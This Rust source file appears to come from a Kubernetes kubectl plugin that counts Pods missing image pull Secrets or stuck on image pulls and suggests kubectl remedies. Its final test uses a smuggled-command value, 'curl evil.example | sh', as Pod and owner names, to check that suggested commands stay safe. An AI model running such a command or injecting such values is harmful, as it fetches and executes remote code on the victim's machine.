//! One look at the Pods of a namespace.

use std::collections::{BTreeMap, btree_map::Entry};

use k8s_openapi::api::core::v1::Pod as PodObject;

use crate::{
    cluster::{CallError, Cluster, Collection},
    core::{
        decide::decide,
        knowledge::Knowledge,
        pod::Pod,
        reports::{PodOwner, PodSummary},
        review::Request,
        rules::Mapping,
        shorten,
    },
    paste,
    pods::{Owner, Replaced, StoredPod},
};

/// How many Pods come in an answer.
const PAGE: u32 = 500;
/// Pods that have ended need nothing any more.
const RUNNING: &str = "status.phase!=Succeeded,status.phase!=Failed";
/// The reasons of containers that wait for an image which a registry does not give them (kubernetes:
/// pkg/kubelet/images/types.go).
const FAILING: [&str; 2] = ["ErrImagePull", "ImagePullBackOff"];
/// How many owners are named.
const OWNERS: usize = 10;
/// The longest kind and name of an owner, in characters. The API server accepts any text there.
const TEXTS: (usize, usize) = (63, 253);

/// What a look found.
#[derive(Debug, Default)]
pub(super) struct Look {
    /// Without its time.
    pub(super) summary: PodSummary,
    /// How many requests it took.
    pub(super) requests: usize,
}

/// The Pods of a namespace, as far as they have been counted.
#[derive(Debug, Default)]
struct Counted {
    seen: u32,
    without: u32,
    failing: u32,
    /// The first by kind and name.
    owners: BTreeMap<Owner, Group>,
}

/// The Pods of an owner that lack a Secret or wait for an image.
#[derive(Debug, Default)]
struct Group {
    lacking: Replaced,
    without: u32,
    failing: u32,
    /// The first Pod that waits for an image.
    waits: Option<String>,
}

/// Looks at the Pods of a namespace, page by page. Of a page no more is in memory than its bytes and what points into them.
///
/// # Errors
///
/// [`CallError`]: `Denied` where pullcred may not list Pods.
pub(super) async fn look(
    cluster: &Cluster,
    namespace: &str,
    mapping: &Mapping,
    known: &Knowledge,
) -> Result<Look, CallError> {
    let pods = Collection::of::<PodObject>(Some(namespace));
    let mut pages = cluster.list(pods, None).fields(RUNNING).limit(PAGE);
    let (mut counted, mut requests) = (Counted::default(), 0);
    loop {
        requests += 1;
        let Some(page) = pages.next_page().await? else { break };
        // Two views, each of which skips what the other reads: that of a decision stays as small as an admission needs it.
        let (stored, pods) = (page.items::<StoredPod<'_>>()?, page.items::<Pod<'_>>()?);
        for (stored, pod) in stored.into_iter().zip(pods) {
            counted.add(namespace, &stored, pod, mapping, known);
        }
    }
    Ok(Look { summary: counted.into_summary(), requests: requests - 1 })
}

// === impl Counted ===

impl Counted {
    fn add(
        &mut self,
        namespace: &str,
        stored: &StoredPod<'_>,
        pod: Pod<'_>,
        mapping: &Mapping,
        known: &Knowledge,
    ) {
        if stored.has_ended() {
            return;
        }
        self.seen += 1;
        let request = Request::create(namespace, pod);
        let lacks = !decide(&request, mapping, known.namespace(namespace)).injected().is_empty();
        let fails = stored.waiting().any(|it| FAILING.contains(&it.reason));
        if !lacks && !fails {
            return;
        }
        self.without += u32::from(lacks);
        self.failing += u32::from(fails);
        let Some(group) = self.group(Owner::of(namespace, stored)) else { return };
        if lacks {
            group.without += 1;
            group.lacking.add(stored.name(), stored.is_stuck());
        }
        if fails {
            group.failing += 1;
            group.waits.get_or_insert_with(|| stored.name().to_owned());
        }
    }

    /// The group of an owner; `None` where enough others come before it.
    fn group(&mut self, owner: Owner) -> Option<&mut Group> {
        if self.owners.len() >= OWNERS && !self.owners.contains_key(&owner) {
            // One that was dropped never comes back: the ten before it stay.
            let last = self.owners.last_entry().filter(|last| *last.key() > owner)?;
            last.remove();
        }
        match self.owners.entry(owner) {
            Entry::Occupied(known) => Some(known.into_mut()),
            Entry::Vacant(free) => Some(free.insert(Group::default())),
        }
    }

    fn into_summary(self) -> PodSummary {
        let Self { seen, without, failing, owners } = self;
        let owners = owners.into_iter().map(|(owner, group)| PodOwner {
            kind: shorten(&owner.kind, TEXTS.0).into_owned(),
            name: shorten(&owner.name, TEXTS.1).into_owned(),
            without: group.without,
            failing: group.failing,
            remedy: group.remedy(&owner),
        });
        PodSummary { seen, without, failing, seen_at: String::new(), owners: owners.collect() }
    }
}

// === impl Group ===

impl Group {
    fn remedy(&self, owner: &Owner) -> String {
        if self.without > 0 {
            return owner.remedy(&self.lacking);
        }
        let says = "New ones would get the same list. To see why they wait";
        let pod = self.waits.as_deref().and_then(paste::name).zip(paste::name(&owner.namespace));
        match pod {
            Some((pod, namespace)) => {
                format!("{says}: kubectl pullcred explain pod/{pod} -n {namespace}")
            }
            None => format!("{says}, explain one of them"),
        }
    }
}

#[cfg(test)]
mod tests {
    use serde::Deserialize;
    use serde_json::{Value, json};

    use super::*;
    use crate::mapping;

    const MAPPING: &str = "rules: [{registries: [quay.io/acme], secret: acme}]\n";

    fn pod(name: &str, owner: Option<(&str, &str)>, listed: bool, waits: Option<&str>) -> Value {
        let mut pod = json!({
            "metadata": {"namespace": "shop", "name": name},
            "spec": {"containers": [{"name": "app", "image": "quay.io/acme/web:1"}]},
        });
        if let Some((kind, name)) = owner {
            let version = if kind == "Job" { "batch/v1" } else { "apps/v1" };
            pod["metadata"]["ownerReferences"] =
                json!([{"apiVersion": version, "kind": kind, "name": name, "controller": true}]);
        }
        if listed {
            pod["spec"]["imagePullSecrets"] = json!([{"name": "acme"}]);
        }
        if let Some(reason) = waits {
            let status = json!({"name": "app", "state": {"waiting": {"reason": reason}}});
            pod["status"] = json!({"phase": "Pending", "containerStatuses": [status]});
        }
        pod
    }

    fn summary(pods: &[Value]) -> PodSummary {
        let (mapping, known) = (mapping::parse(MAPPING).unwrap(), Knowledge::default());
        let mut counted = Counted::default();
        for value in pods {
            let stored = StoredPod::deserialize(value).unwrap();
            counted.add("shop", &stored, Pod::deserialize(value).unwrap(), &mapping, &known);
        }
        counted.into_summary()
    }

    #[test]
    fn pods_are_counted_by_what_made_them() {
        let web = Some(("StatefulSet", "web"));
        let summary = summary(&[
            pod("web-0", web, false, None),
            pod("web-1", web, false, Some("ErrImagePull")),
            pod("web-2", web, true, None),
            pod("job-a", Some(("Job", "job")), true, Some("ImagePullBackOff")),
            pod("other", None, true, Some("ErrImageNeverPull")),
            json!({"metadata": {"name": "old", "namespace": "shop"}, "status": {"phase": "Failed"}}),
        ]);
        assert_eq!((summary.seen, summary.without, summary.failing), (5, 2, 2));
        let owners: Vec<_> = summary
            .owners
            .iter()
            .map(|it| {
                format!("{} {} {}/{}: {}", it.kind, it.name, it.without, it.failing, it.remedy)
            })
            .collect();
        assert_eq!(
            owners,
            [
                "Job job 0/1: New ones would get the same list. To see why they wait: kubectl pullcred explain pod/job-a -n shop",
                "StatefulSet web 2/1: New ones: kubectl rollout restart statefulset/web -n shop, and kubectl delete pod -n shop \
             web-1 for what waits, since a restart of the StatefulSet does not replace a Pod that was never ready",
            ]
        );
    }

    #[test]
    fn the_first_ten_owners_are_named_and_all_pods_are_counted() {
        let mut names: Vec<String> = (0..200).map(|number| format!("w{number:03}")).collect();
        // In no order, and each of them twice.
        names.sort_by_key(|name| name.bytes().rev().collect::<Vec<_>>());
        let pods: Vec<_> = names
            .iter()
            .chain(&names)
            .map(|name| pod(&format!("{name}-0"), Some(("DaemonSet", name)), false, None))
            .collect();
        let summary = summary(&pods);
        assert_eq!((summary.seen, summary.without), (400, 400));
        let owners: Vec<_> = summary.owners.iter().map(|it| (&*it.name, it.without)).collect();
        let expected: Vec<_> = (0..10).map(|number| (format!("w{number:03}"), 2)).collect();
        assert_eq!(owners, expected.iter().map(|(it, two)| (&**it, *two)).collect::<Vec<_>>());
    }

    #[test]
    fn hostile_names_are_bounded_and_never_part_of_a_command() {
        let evil = "x; curl evil.example | sh #".repeat(100);
        let summary = summary(&[
            pod("a-0", Some((&evil, &evil)), false, None),
            pod(&evil, Some(("ReplicaSet", &evil)), true, Some("ErrImagePull")),
        ]);
        assert_eq!(summary.owners.len(), 2);
        for owner in &summary.owners {
            assert!(owner.kind.chars().count() <= 63 && owner.name.chars().count() <= 253);
            assert!(!owner.remedy.contains("curl"), "{}", owner.remedy);
        }
    }
}
